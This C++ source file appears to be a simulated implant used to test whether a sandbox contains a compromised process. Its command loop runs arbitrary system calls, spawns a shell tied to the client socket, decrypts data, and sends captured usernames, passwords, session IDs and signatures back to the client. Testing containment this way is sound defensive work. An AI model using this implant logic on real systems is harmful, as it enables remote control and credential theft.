#include "drill/edge/implant.h"

#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>

#include "drill/wire/bytes.h"
#include "drill/wire/datagram.h"
#include "drill/wire/orders.h"
#include "drill/wire/secrets.h"
#include "drill/wire/stream.h"

namespace bulkhead::drill {
namespace {

constexpr int kReplyMs = 20'000;
constexpr int kArguments = 6;
constexpr int kShellClientFd = 9;

std::string channel_call(Reader operands) {
  const int along = operands.u8() == 1 ? STDIN_FILENO : -1;
  std::string answer;
  const bool sent = send_datagram(kChannelFd, operands.string(), along);
  const auto reply = sent ? receive_datagram(kChannelFd, kReplyMs) : std::nullopt;
  put_u8(answer, static_cast<std::uint8_t>(reply ? Heard::kReply : Heard::kEnded));
  put_u32(answer, reply ? static_cast<std::uint32_t>(reply->descriptors.size()) : 0);
  for (std::size_t i = 0; reply && i < reply->descriptors.size(); ++i)
    put_u32(answer, static_cast<std::uint32_t>(reply->descriptors[i]));
  put_string(answer, reply ? std::string_view(reply->bytes) : std::string_view());
  return answer;
}

std::string system_call(Reader operands) {
  const auto number = static_cast<long>(operands.u32());
  std::string buffers[kArguments];
  long arguments[kArguments] = {};
  bool is_buffer[kArguments] = {};
  for (int i = 0; i < kArguments; ++i) {
    is_buffer[i] = operands.u8() == 1;
    if (is_buffer[i]) {
      buffers[i] = operands.string();
      arguments[i] = reinterpret_cast<long>(buffers[i].data());
    } else {
      arguments[i] = static_cast<long>(operands.u64());
    }
  }
  const long result = ::syscall(number, arguments[0], arguments[1], arguments[2], arguments[3],
                                arguments[4], arguments[5]);
  std::string answer;
  put_u64(answer, static_cast<std::uint64_t>(result < 0 ? -static_cast<long>(errno) : result));
  for (int i = 0; i < kArguments; ++i) {
    if (is_buffer[i]) put_string(answer, buffers[i]);
  }
  return answer;
}

std::string open_box(Reader operands) {
  const std::string key(operands.string());
  const std::string nonce(operands.string());
  const std::string associated(operands.string());
  std::string box;
  if (operands.u8() == 0) {
    box = operands.string();
  } else {
    const int fd = static_cast<int>(operands.u32());
    const auto offset = static_cast<off_t>(operands.u64());
    box.resize(operands.u32());
    if (::pread(fd, box.data(), box.size(), offset) != static_cast<ssize_t>(box.size()))
      box.clear();
  }
  const auto plaintext = gcm_open(key, nonce, associated, box);
  std::string answer;
  put_u8(answer, plaintext ? 1 : 0);
  put_string(answer, plaintext.value_or(""));
  return answer;
}

std::string become_shell(Reader operands, int client) {
  const std::string command(operands.string());
  const char* const arguments[] = {"sh", "-c", command.c_str(), nullptr};
  const char* const environment[] = {nullptr};
  // execve(2) first of all: it is what has to be stopped.
  ::execve("/nonexistent", const_cast<char**>(arguments), const_cast<char**>(environment));
  if (::dup2(client, kShellClientFd) == kShellClientFd)
    ::execve("/bin/sh", const_cast<char**>(arguments), const_cast<char**>(environment));
  std::string answer;
  put_u64(answer, static_cast<std::uint64_t>(-static_cast<long>(errno)));
  return answer;
}

std::string memory(const Spoils& spoils) {
  std::string answer;
  for (const std::string* seen : {&spoils.user, &spoils.password, &spoils.session_id,
                                  &spoils.signed_request, &spoils.signature})
    put_string(answer, *seen);
  return answer;
}

std::string where(const Spoils& spoils) {
  std::string answer;
  put_u64(answer, reinterpret_cast<std::uintptr_t>(spoils.plaintext.data()));
  put_u64(answer, spoils.plaintext.size());
  put_u32(answer, static_cast<std::uint32_t>(::getpid()));
  return answer;
}

}  // namespace

void obey(int client, const Spoils& spoils) {
  while (const auto frame = read_frame(client)) {
    Reader operands(*frame);
    std::string answer;
    switch (static_cast<Order>(operands.u8())) {
      case Order::kChannel:
        answer = channel_call(operands);
        break;
      case Order::kSystemCall:
        answer = system_call(operands);
        break;
      case Order::kOpenBox:
        answer = open_box(operands);
        break;
      case Order::kShell:
        answer = become_shell(operands, client);
        break;
      case Order::kMemory:
        answer = memory(spoils);
        break;
      case Order::kWhere:
        answer = where(spoils);
        break;
    }
    if (!write_frame(client, answer)) return;
  }
}

}  // namespace bulkhead::drill
